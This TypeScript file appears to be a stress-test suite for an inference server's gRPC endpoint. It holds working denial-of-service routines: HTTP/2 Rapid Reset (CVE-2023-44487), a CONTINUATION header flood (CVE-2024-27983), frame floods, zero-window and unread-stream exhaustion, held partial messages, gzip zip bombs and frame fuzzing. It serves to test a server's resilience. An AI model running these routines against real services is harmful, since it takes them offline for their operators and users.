import { gzipSync } from 'node:zlib';
import { loadDefinitions } from '@manara/runtime/build/src/grpc/definitions';
import { frame, frameType, onStream, opening, unaryCall } from '../bench/peers/load/http2-frames';
import type { Chance } from '../support/chance';
import { neighbourModel } from '../support/neighbour';
import { crowd } from './crowd';
import { Raw } from './raw';
import type { Attack } from './target';

const inferPath = '/inference.GRPCInferenceService/ModelInfer';
const streamPath = '/inference.GRPCInferenceService/ModelStreamInfer';
const type = { priority: 2, windowUpdate: 8, continuation: 9 } as const;
const mebibyte = 2 ** 20;

/** Valid calls that chance changed: in the message, in the frames, or all of it. */
export const fuzzGrpc: Attack = async ({ grpcPort, chance, saw }) => {
  await Promise.all(
    Array.from({ length: 30 }, async () => {
      const raw = new Raw(grpcPort);
      const call = chance.pick([
        () => callOf(chance.mutated(message(chance))),
        () => chance.mutated(callOf(message(chance))),
        () => randomFrames(chance),
      ])();
      raw.send(chance.integer(10) === 0 ? chance.bytes(500) : Buffer.concat([opening(), call]));
      await raw.settled(200);
      saw(0, 'gRPC');
      raw.destroy();
    }),
  );
};

/** Frames that cost their sender nothing, without end. */
export const frameFloods: Attack = async (target) => {
  const floods: readonly Buffer[] = [
    frame(frameType.settings, 0, 0, Buffer.alloc(0)),
    frame(frameType.ping, 0, 0, Buffer.alloc(8)),
    frame(type.priority, 0, 1, Buffer.alloc(5)),
    frame(type.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1])),
    frame(frameType.data, 0, 1, Buffer.alloc(0)),
  ];
  await crowd(
    target,
    { over: 'grpc', size: 2 * floods.length, millis: 800, what: 'a flood of frames over gRPC' },
    (raw, i) => {
      raw.send(opening());
      const one = floods[i % floods.length] ?? Buffer.alloc(0);
      const many = Buffer.concat(Array.from({ length: 2000 }, () => one));
      // One in two does not read the acknowledgements either.
      if (i >= floods.length) raw.socket.pause();
      pour(raw, many);
    },
  );
};

/** Calls that are begun and reset, without end (CVE-2023-44487). */
export const rapidReset: Attack = async (target) => {
  await crowd(
    target,
    { over: 'grpc', size: 4, millis: 800, what: 'calls that are reset over gRPC' },
    (raw) => {
      raw.send(opening());
      const call = callOf(message(target.chance));
      let stream = 1;
      pour(raw, () => {
        const all: Buffer[] = [];
        for (let n = 0; n < 200; n++, stream += 2) {
          all.push(
            onStream(call, stream),
            frame(frameType.reset, 0, stream, Buffer.from([0, 0, 0, 8])),
          );
        }
        return Buffer.concat(all);
      });
    },
  );
};

/** Headers that never end (CVE-2024-27983). */
export const continuationFlood: Attack = async (target) => {
  await crowd(
    target,
    { over: 'grpc', size: 8, millis: 800, what: 'headers without end over gRPC' },
    (raw) => {
      raw.send(opening());
      raw.send(frame(frameType.headers, 0, 1, Buffer.alloc(0)));
      // A literal header without index: name "a", value of 100 bytes.
      const field = Buffer.concat([Buffer.from([0, 1, 0x61, 100]), Buffer.alloc(100, 0x62)]);
      pour(raw, frame(type.continuation, 0, 1, Buffer.concat(Array(100).fill(field) as Buffer[])));
    },
  );
};

/** Calls whose answers are never let in: the window of each stream is 0. */
export const closedWindows: Attack = async (target) => {
  const setting = Buffer.from([0, 4, 0, 0, 0, 0]);
  await crowd(
    target,
    { over: 'grpc', size: 8, millis: 1000, what: 'windows that are closed over gRPC' },
    (raw) => {
      raw.send(Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'));
      raw.send(frame(frameType.settings, 0, 0, setting));
      const call = callOf(message(target.chance, 10_000));
      for (let n = 0; n < 200; n++) raw.send(onStream(call, 1 + 2 * n));
    },
  );
};

/** Requests on one stream, whose answers nobody reads. */
export const unreadStreams: Attack = async (target) => {
  await crowd(
    target,
    { over: 'grpc', size: 4, millis: 1000, what: 'answers that nobody reads over gRPC' },
    (raw) => {
      raw.send(Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'));
      raw.send(frame(frameType.settings, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0])));
      const call = unaryCall(streamPath, 'x', message(target.chance, 2000));
      const headers = call.subarray(0, 9 + call.readUIntBE(0, 3));
      const data = Buffer.from(call.subarray(headers.length));
      data[4] = 0;
      raw.send(headers);
      for (let n = 0; n < 500; n++) raw.send(data);
    },
  );
};

/** Messages that come all but the last byte, on many streams. */
export const heldMessages: Attack = async (target) => {
  await crowd(
    target,
    { over: 'grpc', size: 8, millis: 1000, what: 'messages that are held over gRPC' },
    (raw) => {
      raw.send(opening());
      const part = Buffer.alloc(16_000);
      for (let stream = 1; stream < 200; stream += 2) {
        const call = unaryCall(inferPath, 'x', Buffer.alloc(0));
        const headers = call.subarray(0, 9 + call.readUIntBE(0, 3));
        raw.send(onStreamHead(headers, stream));
        const prefix = Buffer.alloc(5);
        prefix.writeUInt32BE(target.maxRequestBytes - 1, 1);
        raw.send(frame(frameType.data, 0, stream, prefix));
        for (let n = 0; n < 8; n++) raw.send(frame(frameType.data, 0, stream, part));
      }
    },
  );
};

/** Packed messages that unpack to far more than is allowed, and to just what is. */
export const grpcZipBombs: Attack = async (target) => {
  const bodies = [64 * mebibyte, target.maxRequestBytes - 1].map((size) =>
    gzipSync(Buffer.alloc(size)),
  );
  await crowd(
    target,
    { over: 'grpc', size: 8, millis: 1500, what: 'a zip bomb over gRPC' },
    (raw, i) => {
      raw.send(opening());
      const body = bodies[i % 2] ?? Buffer.alloc(0);
      for (let stream = 1; stream < 40; stream += 2) {
        const prefix = Buffer.from([1, 0, 0, 0, 0]);
        prefix.writeUInt32BE(body.length, 1);
        const head = packedHeaders();
        raw.send(frame(frameType.headers, 4, stream, head));
        const all = Buffer.concat([prefix, body]);
        for (let at = 0; at < all.length; at += 16_000) {
          const last = at + 16_000 >= all.length;
          raw.send(frame(frameType.data, last ? 1 : 0, stream, all.subarray(at, at + 16_000)));
        }
      }
    },
  );
};

/** Sends for as long as the other side takes it. */
function pour(raw: Raw, bytes: Buffer | (() => Buffer)): void {
  if (raw.isClosed || !raw.socket.writable) return;
  raw.socket.write(typeof bytes === 'function' ? bytes() : bytes, () => {
    setImmediate(pour, raw, bytes);
  });
}

function callOf(bytes: Buffer): Buffer {
  return unaryCall(inferPath, 'x', bytes);
}

function onStreamHead(headers: Buffer, stream: number): Buffer {
  const copy = Buffer.from(headers);
  copy.writeUInt32BE(stream, 5);
  return copy;
}

function packedHeaders(): Buffer {
  const call = unaryCall(inferPath, 'x', Buffer.alloc(0));
  const fields = call.subarray(9, 9 + call.readUIntBE(0, 3));
  const [name, value] = ['grpc-encoding', 'gzip'];
  const more = Buffer.concat([
    Buffer.from([0, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ]);
  return Buffer.concat([fields, more]);
}

function randomFrames(chance: Chance): Buffer {
  return Buffer.concat(
    Array.from({ length: 1 + chance.integer(20) }, () =>
      frame(
        chance.integer(12),
        chance.integer(256),
        chance.integer(6),
        chance.bytes(chance.integer(60)),
      ),
    ),
  );
}

const serialize = loadDefinitions().inference.ModelInfer?.requestSerialize;

function message(chance: Chance, values = 1 + chance.integer(20)): Buffer {
  if (serialize === undefined) throw new Error('no method ModelInfer');
  return serialize({
    model_name: neighbourModel.name,
    inputs: [{ name: 'x', datatype: 'FP32', shape: [values] }],
    raw_input_contents: [Buffer.alloc(values * 4)],
  });
}
